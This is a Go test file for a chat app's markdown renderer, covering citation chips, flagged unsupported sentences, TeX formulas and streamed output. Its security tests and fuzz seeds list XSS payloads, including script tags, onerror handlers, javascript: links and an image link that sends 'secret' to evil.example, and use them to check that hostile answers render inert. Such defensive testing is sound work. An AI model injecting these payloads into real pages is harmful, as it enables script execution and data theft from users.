package views

import (
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/footnote/footnote/chat"
)

func citeOne(n int) (chat.Citation, bool) {
	if n > 2 {
		return chat.Citation{}, false
	}
	return chat.Citation{
		Number: n, DocumentID: "d1", Title: `A "title" <img src=x onerror=alert(1)>`, Page: 4, URL: "/d/d1?c=run.1",
		Check: chat.CheckVerified,
	}, true
}

func whole(t *testing.T, src string, unsupported ...string) string {
	t.Helper()
	var b strings.Builder
	for _, block := range NewMarkdown().Whole(src, unsupported, citeOne) {
		b.WriteString(block.HTML)
	}
	return b.String()
}

// harm lists forbidden parts of a document: scripts, event handlers, and links outside the allow list.
func harm(t *testing.T, doc string) []string {
	t.Helper()
	root, err := html.Parse(strings.NewReader(doc))
	if err != nil {
		t.Fatal(err)
	}
	var found []string
	for n := range root.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		switch n.Data {
		case "script", "style", "iframe", "object", "embed", "img", "video", "audio", "base", "meta", "form", "input",
			"svg", "math":
			found = append(found, "<"+n.Data+">")
		}
		for _, a := range n.Attr {
			name := strings.ToLower(a.Key)
			value := strings.ToLower(strings.TrimSpace(a.Val))
			switch {
			case strings.HasPrefix(name, "on"), strings.HasPrefix(name, "hx-"), name == "style", name == "src",
				name == "srcset":
				found = append(found, name+"="+a.Val)
			case name == "href" && !strings.HasPrefix(value, "/d/") && !strings.HasPrefix(value, "/leave?to=http") &&
				!strings.HasPrefix(value, "mailto:"):
				found = append(found, name+"="+a.Val)
			}
		}
	}
	return found
}

func TestHostileAnswersAreInert(t *testing.T) {
	for _, src := range []string{
		`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `![secret words](https://evil.example/?q=secret)`,
		`[click](javascript:alert(1)) [b](data:text/html,x) [c](vbscript:x)`,
		`<div hx-get="/agent" hx-trigger=load hx-on:click="x">x</div>`,
		`<iframe src=//evil.example></iframe>`, `<a href="x" onclick="alert(1)">x</a>`,
		"```html\n<img src=x onerror=alert(1)>", `<svg/onload=alert(1)>`,
		"| a |\n|---|\n| <img src=x onerror=alert(1)> |", `[x]: javascript:alert(1)` + "\n\n[x]",
		`<style>*{background:url(//evil.example)}</style>`,
		"~~~\" onmouseover=\"alert(1)\nx\n~~~", "\uE0001\uE001<b onclick=x>",
		"![a][b]\n\n[b]: http://evil.example/x.png", "[1] <form action=/chat><input name=message></form>",
		`\(\href{javascript:alert(1)}{x}\)`, `$\text{<img src=x onerror=alert(1)>}$`, `$$\style{background:url(//e.` +
			`x)}{x}$$`,
		`\[ \class{x" onclick="alert(1)}{<script>alert(1)</script>} \]`, `$<script>alert(1)</script>$`,
		`$\includegraphics{http://e.x/a.png}$ $\text{</annotation></math><script>}$`, `<code class="tex">x</code> $x$`,
		"$$\n</annotation><img src=x onerror=alert(1)>\n$$", `$\text{"><a href="javascript:alert(1)">}$`,
		"<hx-partial hx-target=body><p>gone</p></hx-partial>", "<math><mtext><script>alert(1)</script></mtext></math>",
	} {
		if found := harm(t, whole(t, src)); len(found) > 0 {
			t.Errorf("%q renders with %q:\n%s", src, found, whole(t, src))
		}
	}
}

func TestAnswerMarkdown(t *testing.T) {
	for _, tt := range []struct{ name, src, want string }{
		{"a number becomes a chip that sticks to its word", "Sound [1].",
			`Sound` + "\u2060" + `<a class="cite" href="/d/d1?c=run.1#cited"`},
		{"two numbers in a row are two chips", "Sound [1][2].", `data-n="2"`},
		{"a chip names its place for screen readers, title and all", "x [1]",
			`aria-label="Source 1: A &#34;title&#34; &lt;img src=x onerror=alert(1)&gt;, page 4"`},
		{"a number without a citation stays text", "See [7].", "See [7]."},
		{"a number in code stays text", "`a[1]`", "<code>a[1]</code>"},
		{"a link with a number as its text stays a link", "[1](https://example.org)",
			`>1</a> <bdi class="host">(example.org)</bdi>`},
		{"an image becomes its description", "![a chart](http://evil.example/x.png)", "<em>a chart</em>"},
		{"headings stand under the question", "# Title", "<h3>Title</h3>"},
		{"tables scroll by themselves and keep their alignment", "|a|b|\n|-|-:|\n|1|2|", `<td align="right">2</td>`},
		{"code has its language and a copy button", "```go\nx := 1\n```",
			`<span>go</span><button class="btn bare small" type="button" data-do="copy">`},
		{"formulas are written for the script", `$\frac{1}{n}\sum x_i$ and $a_1 + b_1$`,
			`<p><code class="tex">$\frac{1}{n}\sum x_i$</code> and <code class="tex">$a_1 + b_1$</code></p>`},
		{"a list of tasks says what is done", "- [ ] open\n- [x] done", "\u2611\ufe0e done"},
		{"a tag is text: words of a document don't vanish", "A map of <K, V> or <T>.",
			"A map of &lt;K, V&gt; or &lt;T&gt;."},
		{"a block of tags is text", "<div>\nThe *roof*\n</div>", "<p>&lt;div&gt;\nThe *roof*\n&lt;/div&gt;"},
		{"private characters are characters like others", "\uE0001\uE001 \uE002", "<p>\uE0001\uE001 \uE002</p>"},
		{"an element of ours in the text is text", `<fn-chip n="1"></fn-chip> <fn-note></fn-note>`,
			"&lt;fn-note&gt;&lt;/fn-note&gt;"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got := whole(t, tt.src); !strings.Contains(got, tt.want) {
				t.Errorf("Whole(%q) = %s\nwant it to hold %s", tt.src, got, tt.want)
			}
		})
	}
}

func TestCitationsOfUnsupportedSentencesAreDoubted(t *testing.T) {
	got := Doubted("The roof leaks [1]. Two is here [2] and there.[3] Three [4].",
		[]string{"Two is here and there.", "Not there."})
	if len(got) != 2 || !got[2] || !got[3] {
		t.Errorf("doubted: %v, want 2", got)
	}
}

func TestOnlyMarkerInProseIsFootnote(t *testing.T) {
	for src, want := range map[string]int{
		"It leaks [1], says the survey[2].": 2, "See https://x.org/a[2] [1].": 1, "[a](http://x.org/[2]) [1]": 1,
		`[a](http://x.org "b [2]") [1]`: 1,
		"Set a[1] and max_size[2].":     0, "`a [1]` [2]": 1, "So:\n\n    b [1]\n\nIt leaks [2].": 1,
		"<https://x.org/[2]> [1]": 1, "![a](b[2]) [1]": 1,
	} {
		if got := strings.Count(whole(t, src), `class="cite"`); got != want {
			t.Errorf("%q has %d footnotes on the page, want %d", src, got, want)
		}
	}
}

func TestUnsupportedSentencesAreMarked(t *testing.T) {
	for _, tt := range []struct{ name, src, sentence, want string }{
		{"a plain sentence is underlined and flagged", "One. Two is here.", "Two is here.",
			`<span class="unsupported">Two is here.</span><span class="flag">`},
		{"a list item is found without its dash", "- One\n- Two is here.", "- Two is here.",
			`<li><span class="unsupported">Two is here.</span><span class="flag">`},
		{"marks that cross only get the flag", "**One. Two** is here.", "Two** is here.",
			`One. Two</strong> is here.<span class="flag">`},
		{"the flag stands behind the sentence's chips", "Two is here [1]. Three.", "Two is here",
			`</a>.</span><span class="flag">` + txtNotInSource.English()},
		{"a sentence with a chip keeps it", "Two is here [1].", "Two is here [1].", `</a>.</span><span class="flag">`},
		{"a footnote before the full stop", "One. Two is here [1]. Three.", "Two is here.",
			`</a>.</span><span class="flag">` + txtNotInSource.English()},
		{"a footnote behind it without a space", "One.[1] Two is here.[1] Three.", "Two is here.",
			`</a></span><span class="flag">` + txtNotInSource.English()},
		{"several footnotes", "Two is here [1][1] and there [1].", "Two is here and there.",
			`</a>.</span><span class="flag">` + txtNotInSource.English()},
		{"a list item", "- One [1]\n- Two is here [1].", "Two is here.", `<li><span class="unsupported">Two is here`},
		{"in bold", "**Two is here [1].** Three.", "Two is here.", `</a>.</span><span class="flag">`},
		{"behind bold", "One. **Two is here.** [1] Three.", "Two is here.",
			`<span class="unsupported"><strong>Two is here.</strong>`},
		{"over two lines", "Two\nis here [1].", "Two is here.", `</a>.</span><span class="flag">`},
		{"not within a longer word", "Ourmen left. men left [1].", "men left.", `</p>` + "\n"},
		{"one that breaks off, not the one that begins alike", "Two is here and there [1]. Two is here", "Two is here",
			`. <span class="unsupported">Two is here</span>`},
		{"a row of a table", "| A | B |\n|---|---|\n| Two | here [1] |", "Two | here |",
			`</a><span class="flag">` + txtNotInSource.English() + `</span></td>`},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got := whole(t, tt.src, tt.sentence); !strings.Contains(got, tt.want) {
				t.Errorf("Whole(%q) = %s\nwant it to hold %s", tt.src, got, tt.want)
			}
		})
	}
}

func TestStreamedTableAppearsAfterDelimiterRow(t *testing.T) {
	m := NewMarkdown()
	for _, tt := range []struct{ src, want string }{
		{"Before.\n\n| Work | Pr", ""},
		{"Before.\n\n| Work | Price |\n|--", ""},
		{"Before.\n\n| Work | Price |\n|---|---:|\n| Ro", "<td>Ro</td>"},
		{"Before.\n\nThis | that", "This | that"},
	} {
		drawn, _ := m.drawTail(tt.src, 1, maxNodes, true, citeOne)
		blocks := drawn.blocks
		got := blocks[len(blocks)-1].HTML
		if tt.want == "" && (len(blocks) != 1 || strings.Contains(got, "|")) || !strings.Contains(got, tt.want) {
			t.Errorf("the open end %q is drawn as %q, want %q in it", tt.src, got, tt.want)
		}
	}
}

// The final blocks are the same for every split of an answer into deltas.
func TestStreamedBlocksEqualWholeBlocks(t *testing.T) {
	src := "First paragraph with [1] and **bold** words.\n\n## Heading\n\n- one\n- two [2]\n\n  still two\n- " +
		"three\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n" +
		"```go\nfunc main() {\n\n}\n```\n\n> quoted\n> more\n\n1. first\n2. second\n\nLast words."
	m := NewMarkdown()
	want := m.Whole(src, nil, citeOne)
	for size := 1; size <= 40; size++ {
		d := NewDraft(m, citeOne)
		for at := 0; at < len(src); at += size {
			d.Add(src[at:min(at+size, len(src))])
		}
		got := d.Close()
		if len(got) != len(want) {
			t.Fatalf("in pieces of %d bytes: %d blocks, want %d", size, len(got), len(want))
		}
		for i := range want {
			if got[i] != want[i] {
				t.Fatalf("in pieces of %d bytes, block %d = %+v, want %+v", size, i, got[i], want[i])
			}
		}
	}
}

func BenchmarkDelta(b *testing.B) {
	m := NewMarkdown()
	src := strings.Repeat("The roof is sound and the wall is dry. ", 8) + "[1] More words follow"
	for b.Loop() {
		m.drawTail(src, 3, maxNodes, true, citeOne)
	}
}

func TestSourceOfUnsupportedSentenceIsMarked(t *testing.T) {
	c := chat.Citation{Number: 1, Title: "Slate", Quote: "Slate is a rock.", Check: chat.CheckVerified}
	for _, unsupported := range [][]string{nil, {"Pigs fly."}} {
		final := chat.Answer{Markdown: "Pigs fly [1].", Citations: []chat.Citation{c}, Unsupported: unsupported}
		var b strings.Builder
		if err := sources(&Turn{Final: &final}).Render(t.Context(), &b); err != nil {
			t.Fatal(err)
		}
		if got := strings.Contains(b.String(), html.EscapeString(txtDoubted.English())); got != (unsupported != nil) ||
			!strings.Contains(b.String(), "Verified") {
			t.Errorf("with %q: %s, want %q in it", unsupported, b.String(), "Verified")
		}
	}
}

func TestAnswerNotesAreShownBelow(t *testing.T) {
	many := slices.Repeat([]string{"“2 + 3 = 6” is wrong: it is 5. <b>"}, maxAnswerNotes+2)
	for _, tt := range []struct {
		notes []string
		items int
		last  string
	}{
		{nil, 0, ""},
		{many[:1], 1, "“2 + 3 = 6” is wrong: it is 5. &lt;b&gt;"},
		{many, maxAnswerNotes + 1, "2 more notes."},
	} {
		turn := &Turn{RunID: "r", Status: chat.RunCompleted, Final: &chat.Answer{Markdown: "It is 6.", Notes: tt.notes}}
		var b strings.Builder
		if err := After(turn).Render(t.Context(), &b); err != nil {
			t.Fatal(err)
		}
		_, list, found := strings.Cut(b.String(), `data-testid="answer-notes">`)
		list, _, _ = strings.Cut(list, "</ul>")
		if n := strings.Count(list, "<li"); found != (tt.items > 0) || n != tt.items ||
			!strings.Contains(list, tt.last+"</li>") && tt.items > 0 {
			t.Errorf("%d notes: %d items, want %d, the last of them %q:\n%s", len(tt.notes), n, tt.items, tt.last, list)
		}
	}
}

// tex returns the element of a formula in running text.
func tex(source string) string { return `<code class="tex">` + source + `</code>` }

// line returns the element of a formula on a line of its own.
func line(source string) string { return `<code class="tex tex-line">` + source + `</code>` }

func TestAnswerFormulas(t *testing.T) {
	for _, tt := range []struct {
		name, src string
		want      []string
	}{
		{"in a sentence", `So \( p^* = \frac{a}{b} \) holds [1].`,
			[]string{"<p>So " + tex(`\( p^* = \frac{a}{b} \)`) + " holds"}},
		{"on a line of its own", `So \[ \frac{a}{b} \] holds.`,
			[]string{"<p>So " + line(`\[ \frac{a}{b} \]`) + " holds."}},
		{"over several lines that look like list items", "Thus\n\\[\nx = \\frac{a}{b}\n+ c\n- d\n\\]\nholds.",
			[]string{"<p>Thus</p>", line("\\[\nx = \\frac{a}{b}\n+ c\n- d\n\\]"), "<p>holds.</p>"}},
		{"between dollars, over several lines", "$$\n\\frac{a}{b}\n= 1\n$$",
			[]string{line("$$\n\\frac{a}{b}\n= 1\n$$")}},
		{"a footnote behind it", "\\[ x \\] [1]", []string{line(`\[ x \]`), `class="cite"`}},
		{"in a heading", `## The share $\frac{a}{b}$`, []string{"<h3>The share " + tex(`$\frac{a}{b}$`) + "</h3>"}},
		{"in a list", "- one $a$\n- two\n  \\[\n  x\n  - y\n  \\]",
			[]string{"<li>one " + tex("$a$"), line("\\[\nx\n- y\n\\]")}},
		{"in a table", "| a | b |\n|---|---|\n| $a$ | $5 and $6 |",
			[]string{"<td>" + tex("$a$"), "<td>$5 and $6</td>"}},
		{"in a quotation", "> \\[\n> x\n> + c\n> \\]", []string{"<blockquote>", line("\\[\nx\n+ c\n\\]")}},
		{"in bold", `**$a$**`, []string{"<strong>" + tex("$a$") + "</strong>"}},
		{"marks in it are its own", `$a_1 b_2$ and \(x*y*z\)`, []string{tex("$a_1 b_2$"), tex(`\(x*y*z\)`)}},
		{"a footnote in it is none", `\(x[1] + y\)`, []string{tex(`\(x[1] + y\)`)}},
		{"HTML in it is text", `\(a < b\) $<i>$`, []string{tex(`\(a &lt; b\)`), tex("$&lt;i&gt;$")}},
		{"code is code", "`\\(x\\)` and `$x$`", []string{`<code>\(x\)</code> and <code>$x$</code>`}},
		{"a code block is code", "```\n\\[ x \\] $y$\n```\n\n    $z$", []string{`\[ x \] $y$`, "$z$"}},
		{"code of TeX is code", "```tex\n$x$\n```", []string{"<span>tex</span>", `<code>$x$`}},
		{"money is money", "It costs $5 and $10, US$ 5 to 7$.", []string{"It costs $5 and $10, US$ 5 to 7$."}},
		{"an escaped dollar is one", `\$x\$`, []string{"<p>$x$</p>"}},
		{"escaped brackets are brackets", `See \[1\] and \[sic\].`, []string{"<p>See [1] and [sic].</p>"}},
		{"one without an end is text", `So \( x is open`, []string{"So ( x is open"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got := whole(t, tt.src)
			for _, want := range tt.want {
				if !strings.Contains(got, want) {
					t.Errorf("Whole(%.200q) = %.2000s\nwant it to hold %s", tt.src, got, want)
				}
			}
		})
	}
}

func TestUnsupportedSentenceWithFormulaIsMarked(t *testing.T) {
	got := whole(t, `One. Two is $x_1$ here. Three.`, `Two is $x_1$ here.`)
	want := `One. <span class="unsupported">Two is ` + tex("$x_1$") + ` here.</span><span class="flag">`
	if !strings.Contains(got, want) {
		t.Errorf("drawn as %s, want %s in it", got, want)
	}
}

const scientific = "The optimum is \\( p^* = \\frac{a}{b} \\) [1], so $x_1 < 5$.\n\n" +
	"\\[\nf(x) =\n\\begin{cases}\nx & y \\\\\n- x & z\n" +
	"\\end{cases}\n\\]\n\nIt costs $5 and $10 a day, or \\$7.\n\n- one $a$\n- two\n\n" +
	"| n | p |\n|---|---|\n| $n$ | $5 |\n\nThen $$x$$.\n" +
	"Last: \\(\\alpha\\)"

// While an answer is streamed, no part of a formula is shown, neither commands nor delimiters. A formula that was
// shown stays a formula.
func TestPartialFormulaIsNotShown(t *testing.T) {
	m := NewMarkdown()
	half := regexp.MustCompile(`frac|begin|alpha|_1|[\\^]|\(\s*(p|f)\b`)
	whole := regexp.MustCompile(`(?s)<code class="tex.*?</code>|<[^>]*>`)
	money := regexp.MustCompile(`\$5 and \$10 a day, or \$7\.|\$5|\$10|or \$7?`)
	d, most := NewDraft(m, citeOne), 0
	for i := range len(scientific) {
		d.Add(scientific[i : i+1])
		shown, formulas := "", 0
		for _, b := range d.Blocks() {
			shown += whole.ReplaceAllString(b.HTML, "")
			formulas += strings.Count(b.HTML, `class="tex`)
		}
		if found := half.FindString(shown); found != "" {
			t.Fatalf("after %q: got the partial formula %q", scientific[:i+1], found)
		}
		if dollars := money.ReplaceAllString(shown, ""); strings.Contains(dollars, "$") {
			t.Fatalf("after %q: got a dollar sign in %q", scientific[:i+1], dollars)
		}
		if most = max(most, formulas); formulas < most {
			t.Fatalf("behind %q, %d formulas are shown, want %d as before", scientific[:i+1], formulas, most)
		}
	}
	if got, want := d.Close(), m.Whole(scientific, nil, citeOne); !slices.Equal(got, want) {
		t.Errorf("the draft ends as\n%v, want\n%v", got, want)
	}
	if most != 7 {
		t.Errorf("%d formulas, want 7", most)
	}
}

func TestStreamedFormulasEqualWhole(t *testing.T) {
	m := NewMarkdown()
	want := m.Whole(scientific, nil, citeOne)
	for size := 1; size <= 40; size++ {
		d := NewDraft(m, citeOne)
		for at := 0; at < len(scientific); at += size {
			d.Add(scientific[at:min(at+size, len(scientific))])
		}
		if got := d.Close(); !slices.Equal(got, want) {
			t.Fatalf("in pieces of %d bytes:\n%v, want\n%v", size, got, want)
		}
	}
}

// An amount of money that could open a formula is shown as soon as a word follows.
func TestAmountIsNotHeldBack(t *testing.T) {
	m := NewMarkdown()
	for _, src := range []string{"It costs $5 per", "It costs $1,000 a day.", "It costs US$ 5", "5$ or 6$ a"} {
		drawn, _ := m.drawTail(src, 1, maxNodes, true, citeOne)
		if got := drawn.blocks[0].HTML; !strings.Contains(got, strings.TrimSpace(src)) {
			t.Errorf("the open end %q is drawn as %s, want all of it", src, got)
		}
	}
}

func FuzzAnswerFormulas(f *testing.F) {
	m := NewMarkdown()
	for _, s := range []string{
		scientific, `\(`, `\[`, "$$", "$x$1", "> \\[\n> a\n", "- \\[\n  a\n  \\]\n",
		"| $a | b$ |\n|--|--|\n", "`$`$x$", "\\[\n\n\\]",
		`[$x](http://a.b/$y)$`, `*$a*b$*`, "\t\\[ x\n\\]", "$$\n```\n$$", `\(\href{javascript:x}{y}\)`,
		`<code class="tex">$x$</code>$x$`,
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if s = strings.ToValidUTF8(s, ""); len(s) > 4000 {
			return
		}
		var b strings.Builder
		for _, block := range m.Whole(s, nil, citeOne) {
			b.WriteString(block.HTML)
		}
		if found := harm(t, b.String()); len(found) > 0 || strings.Contains(b.String(), "<fn-") {
			t.Fatalf("%q renders with %q: %s", s, found, b.String())
		}
		d := NewDraft(m, citeOne)
		for i, r := range s {
			d.Add(s[i : i+len(string(r))])
		}
		d.Close()
	})
}

func BenchmarkAnswerWithFormulas(b *testing.B) {
	m := NewMarkdown()
	for _, n := range []int{0, 1, 10} {
		formulas := strings.Repeat(` \( x = \frac{-b \pm \sqrt{b^2 - 4ac}}{2a} \),`, n)
		src := strings.Repeat("## Roof\n\nThe roof is *sound* and **the wall** is dry [1]."+formulas+
			" It was surveyed in `2024`.\n\n- one [2]\n\n", 8)
		b.Run(fmt.Sprint(8*n), func(b *testing.B) {
			for b.Loop() {
				m.Whole(src, nil, citeOne)
			}
		})
	}
}
